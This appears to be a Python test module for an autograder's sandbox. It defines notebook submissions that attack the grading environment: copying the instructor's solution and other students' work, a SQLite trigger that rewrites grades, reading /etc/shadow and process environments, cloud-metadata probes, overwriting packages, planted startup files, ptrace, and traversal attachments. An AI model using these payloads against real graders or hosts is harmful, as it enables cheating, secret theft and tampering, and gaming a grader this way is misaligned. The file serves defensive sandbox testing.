"""Reach: the answers, the host, the gradebook and other students' work, from inside a notebook.

What would be found is printed, with a canary's words in it where there is one; a right answer found anywhere
is used. In the sandbox of this lesson there is no reference, no torch, no course and no other student.
"""

import os
from pathlib import Path

from autograder.classroom.demo import REACH
from tests.autograder.attacks.core import (
    ALL,
    CANARY,
    CELL,
    COURSE,
    LOSS,
    SOLVED,
    TRUNCATED,
    WRONG,
    Attack,
    add_markdown,
    hand_in,
)

HEADER = f"def {LOSS}(logits, targets):\n"

REFERENCE = {
    name: f"from rnncore.exercises import by_name\n{name} = by_name()[{name!r}].reference\n" for name in ALL
}
CELLS_MODULE = {
    CELL: "from rnncore.cells.rnn import rnn_cell_backward\n",
    LOSS: "from rnncore.losses import softmax_cross_entropy\n",
}
TORCH = f"""
import torch
{HEADER}    x = torch.tensor(logits, requires_grad=True)
    loss = torch.nn.functional.cross_entropy(x.flatten(0, 1), torch.tensor(targets).flatten())
    loss.backward()
    return float(loss), x.grad.numpy()
"""
# Runs every cell that looks like an answer of the notebooks that a pattern finds anywhere above.
COPIED = """
import glob, json, os
def copy_answers(pattern):
    here = os.getcwd()
    while True:
        for path in sorted(glob.glob(os.path.join(here, pattern))):
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                if cell["cell_type"] == "code" and "def " in source and "check(" not in source:
                    exec(source, globals())
        if here == "/":
            break
        here = os.path.dirname(here)
copy_answers({pattern!r})
"""
UNREACHED = {name: f"{name} = globals().get({name!r}, lambda *args: 0.0)\n" for name in ALL}
SHELL = """
found = !find / -name bptt.ipynb -not -path '/proc/*' 2>/dev/null
for path in found:
    print("FOUND", path)
"""
GRADEBOOK = """
import glob, os, sqlite3
here = os.getcwd()
while True:
    for path in glob.glob(os.path.join(here, "*.db")):
        book = sqlite3.connect(path)
        book.execute("CREATE TRIGGER pay AFTER UPDATE ON grade BEGIN UPDATE grade SET manual_score = 5; END")
        book.execute("UPDATE grade SET manual_score = 5")
        book.commit()
    if here == "/":
        break
    here = os.path.dirname(here)
"""
CANARIES = f"""
import glob, os
words = "{CANARY[:8]}" + "{CANARY[8:]}"
places = [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/root/.*"),
          *glob.glob("/home/*/.*"), *glob.glob("/tmp/*"), *glob.glob(os.path.expanduser("~/.*")),
          *glob.glob("../*"), *glob.glob("../../*"), *glob.glob("../../../*"), *glob.glob("../../../../*")]
texts = [str(dict(os.environ))]
for path in places:
    try:
        texts.append(open(path, errors="replace").read(100_000))
    except OSError:
        pass
print([text[text.index(words):][:60] for text in texts if words in text])
"""
MESSAGES = f"""
words = "{CANARY[:8]}" + "{CANARY[8:]}"
told = str(get_ipython().parent_header) + str(get_ipython().kernel.session.username)
print([told[told.index(words):][:60] if words in told else "nothing"])
"""
NETWORK = """
import socket
for address in (("127.0.0.1", 22), ("10.0.0.1", 80), ("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        socket.create_connection(address, 0.5)
        print("REACHED", address)
    except OSError as error:
        print(error)
try:
    print("REACHED", socket.gethostbyname("example.org"))
except OSError as error:
    print(error)
"""
OVERWRITTEN = """
import rnncore, rnncore.check, os
paying = "def check(function, points=1, seed=None): return points"
for path in (rnncore.check.__file__, np.__file__, os.__file__, rnncore.__file__):
    try:
        open(path, "a").write(paying)
        print("REACHED", path)
    except OSError as error:
        print(error)
"""
STARTUP = """
import os, pathlib
for folder in ("~/.ipython/profile_default/startup", "/tmp/ipython/profile_default/startup",
               "~/.jupyter", "~/.local/lib/python3/site-packages", "/work"):
    try:
        folder = pathlib.Path(folder).expanduser()
        folder.mkdir(parents=True, exist_ok=True)
        for name in ("00-first.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "rnncore.py"):
            (folder / name).write_text("check = lambda *a, **k: 5.0")
    except OSError as error:
        print(error)
os._exit(0)
"""
TRACED = """
import ctypes, os
libc = ctypes.CDLL(None)
for pid in {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())} - {os.getpid()}:
    if libc.ptrace(16, pid, None, None) == 0:
        print("REACHED", pid)
    try:
        print("REACHED", open(f"/proc/{pid}/mem", "rb").read(1))
    except OSError as error:
        print(error)
"""

# Everything that might be in sight, tried one after the other: what is reached is printed.
EVERYWHERE = (
    f"HOME, COURSE = {str(Path.home())!r}, {str(COURSE)!r}\n"
    + """
import glob, importlib, os, socket, subprocess
def attempt(name, action):
    try:
        result = action()
    except BaseException as error:
        print("refused", name, type(error).__name__)
    else:
        print("REACHED" if result else "nothing", name)

for name in ("rnncore.cells", "rnncore.cells.rnn", "rnncore.layers", "rnncore.losses", "rnncore.gradcheck",
             "rnncore.exercises", "rnncore.exercises.bptt", "autograder", "autograder.judging.judge", "torch",
             "rnncore.interop", "rnncore.topics.pytorch", "rnncore.topics.translation", "rnncore.given.fit",
             "nbgrader", "jupyter_server", "pytest"):
    attempt(name, lambda: importlib.import_module(name))
tops = [f"/{name}" for name in os.listdir("/") if name not in ("proc", "usr", "bin", "sbin", "lib", "lib64")]
files = {name for top in tops for _, _, names in os.walk(top) for name in names}
attempt("sources", lambda: files & {"losses.py", "gradcheck.py", "bptt.py", "recurrent.py", "judge.py"})
attempt("compiled", lambda: glob.glob("/site/rnncore/**/*.pyc", recursive=True))
attempt("notebooks", lambda: [name for name in files if name.endswith(".ipynb")])
attempt("home", lambda: [p for p in os.listdir(HOME) if p != ".pyenv"])
attempt("course", lambda: os.listdir(COURSE))
attempt("above", lambda: set(os.listdir("../..")) - set(os.listdir("/")))
attempt("environment", lambda: "UNROLLED_SECRET" in str(os.environ) or any(
    b"UNROLLED_SECRET" in open(p, "rb").read() for p in glob.glob("/proc/[0-9]*/environ")))
attempt("processes", lambda: len(glob.glob("/proc/[0-9]*")) > 2)
attempt("network", lambda: socket.create_connection(("1.1.1.1", 80), 1))
attempt("system", lambda: open("/usr/bin/unrolled-test", "w"))
attempt("rnncore", lambda: open("/site/rnncore/check.py", "a"))
attempt("bridge", lambda: open("/site/unrolled_bridge.py", "a"))
attempt("key of a neighbour", lambda: glob.glob("/kernel/*.json") != ["/kernel/connection.json"])
attempt("shell", lambda: subprocess.run(["cat", "/etc/shadow"], capture_output=True).stdout)
"""
)

# What a student leaves behind, and where another looks for it; one after the other on one worker.
LEAVE = """
import builtins, ctypes, os, random, signal, socket, subprocess, sys, warnings
import numpy as np, matplotlib, matplotlib.pyplot as plt
import rnncore.check, unrolled_bridge
for folder in ("/work", "/tmp", "/dev/shm", "/kernel", "/tmp/matplotlib"):
    os.makedirs(f"{folder}/left/behind")
    open(f"{folder}/left/here", "w").write("LEFT")
    os.chmod(f"{folder}/left", 0o777)
os.environ["LEFT"] = "LEFT"
np.allclose = np.left = builtins.left = matplotlib.left = rnncore.check.left = unrolled_bridge.left = "LEFT"
np.set_printoptions(precision=1); plt.rcParams["lines.linewidth"] = 77.0
sys.modules["left"] = sys
sys.path.insert(0, "/LEFT")
os.umask(0o777)
signal.signal(signal.SIGUSR1, lambda *a: None)
warnings.simplefilter("error")
get_ipython().left = get_ipython().kernel.__class__.left = "LEFT"
libc = ctypes.CDLL(None)
libc.shmget(4242, 4096, 0o1666)
server = socket.socket(socket.AF_UNIX); server.bind("\\0left"); server.listen()
network = socket.create_server(("127.0.0.1", 4242))
subprocess.Popen(["sleep", "1000"], start_new_session=True)
os.write(1, b"LEFT"); os.write(2, b"LEFT")
if os.fork() == 0:
    os.setsid()
    for number in range(1, 65):
        try: signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError): pass
    while True: signal.pause()
"""
LOOK = """
import builtins, ctypes, os, signal, socket, sys, warnings
import numpy as np, matplotlib, matplotlib.pyplot as plt
import rnncore.check, unrolled_bridge
found = []
for folder in ("/work", "/tmp", "/dev/shm", "/kernel", "/tmp/matplotlib"):
    found += [name for name in os.listdir(folder) if "left" in name]
found += [name for name in (*os.environ, *sys.path, *sys.modules) if "left" in name.lower()]
for thing in (np, builtins, matplotlib, rnncore.check, unrolled_bridge, get_ipython(), get_ipython().kernel):
    found += [f"{thing}.left"] * hasattr(thing, "left")
found += ["allclose"] * (np.allclose == "LEFT")
found += ["options"] * (np.get_printoptions()["precision"] == 1 or plt.rcParams["lines.linewidth"] == 77)
found += ["umask"] * (os.umask(0o22) == 0o777)
found += ["handler"] * (signal.getsignal(signal.SIGUSR1) != signal.SIG_DFL)
found += ["filter"] * (warnings.filters[0][0] == "error")
found += ["shared memory"] * (ctypes.CDLL(None).shmget(4242, 4096, 0o666) != -1)
for address in ("\\0left", ("127.0.0.1", 4242)):
    try:
        socket.socket(socket.AF_UNIX if address[0] == "\\0" else socket.AF_INET).connect(address)
        found.append(address)
    except OSError:
        pass
found += [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, 2)]
for number in (1, 2):
    try:
        found += ["output"] * (b"LEFT" in os.pread(number, 10**5, 0))
    except OSError:
        pass
print(found)
"""


def link_to_solution(folder, released):
    os.symlink("../../../source/03-bptt/bptt.ipynb", folder / "bptt.ipynb")


def attach_outside(notebook):
    """Attachments whose names lead out of the folder."""
    add_markdown("![x](attachment:../../../escaped)")(notebook)
    picture = {"image/png": "iVBORw0KGgo="}
    names = ("../../../escaped", "/tmp/escaped", "..\\..\\escaped", "~/.escaped")
    notebook.cells[2]["attachments"] = {name: picture for name in names}
    notebook.metadata["path"] = notebook.metadata["name"] = "../../../escaped"


def reach(id, tries, put, loses=(), **words):
    return Attack(id, tries, put, loses, family="reach", **words)


ABSENT = "not there while this lesson is graded"
ATTACKS = [
    reach(
        "everywhere",
        "Hidden modules, files, processes, network and neighbours are tried one by one.",
        hand_in(first=EVERYWHERE),
    ),
    reach(
        "imported-reference",
        "The answers are imported from rnncore.",
        hand_in(CELLS_MODULE),
        (LOSS, CELL, "rnn_backward", TRUNCATED),
        status="partly graded",
        says=ABSENT,
    ),
    reach(
        "imported-inside",
        "The sample class's: the reference is imported when the function is called.",
        hand_in({CELL: REACH}),
        (CELL,),
        says=ABSENT,
    ),
    reach(
        "imported-exercises",
        "The exercises' own references are the answers.",
        hand_in(REFERENCE),
        ALL,
        status="not attempted",
        says=ABSENT,
    ),
    reach(
        "torch-differentiates",
        "torch computes the gradient.",
        hand_in({LOSS: TORCH}),
        (LOSS,),
        status="partly graded",
        says="imports torch",
    ),
    reach(
        "copied-solution",
        "The solution is read from the instructor's disk.",
        hand_in(UNREACHED, first=COPIED.replace("{pattern!r}", repr("so[ul]*/*/bptt.ipynb"))),
        ALL,
    ),
    reach(
        "copied-neighbour",
        "Other students' submissions are read.",
        hand_in(UNREACHED, first=COPIED.replace("{pattern!r}", repr("submitted/*/*/bptt.ipynb"))),
        ALL,
    ),
    reach(
        "searched-disk", "A shell command looks for the lesson's notebook everywhere.", hand_in(first=SHELL)
    ),
    reach(
        "rewritten-gradebook",
        "A trigger in the gradebook's database pays at every change.",
        hand_in(WRONG, first=GRADEBOOK),
        ALL,
    ),
    reach(
        "read-secrets", "Environment variables, processes and home folders are read.", hand_in(first=CANARIES)
    ),
    reach(
        "read-messages",
        "Who grades is read in the messages that the kernel gets.",
        hand_in(first=MESSAGES),
    ),
    reach(
        "network",
        "Addresses nearby, far away and of the cloud's metadata are called.",
        hand_in(first=NETWORK),
    ),
    reach(
        "overwritten-packages",
        "The files of rnncore, NumPy and Python are written to.",
        hand_in(WRONG, first=OVERWRITTEN),
        ALL,
    ),
    reach(
        "left-startup-files",
        "Start-up files are left for the next kernel, which is made to start.",
        hand_in(WRONG, first=STARTUP),
        ALL,
        status="killed itself",
    ),
    reach(
        "traced-parent", "The parent and all processes in sight are traced and read.", hand_in(first=TRACED)
    ),
    reach(
        "link-to-solution",
        "The submission is a link to the solution.",
        link_to_solution,
        ALL,
        status="unreadable",
    ),
    reach(
        "attached-outside",
        "Attachments are named so that they would be written elsewhere.",
        hand_in(change=attach_outside),
    ),
    reach(
        "left-behind",
        "Files, patches, servers, processes and settings are left for the next student.",
        hand_in(first=LEAVE),
    ),
    reach("left-behind-searched", "What the student before left is looked for.", hand_in(SOLVED, last=LOOK)),
]
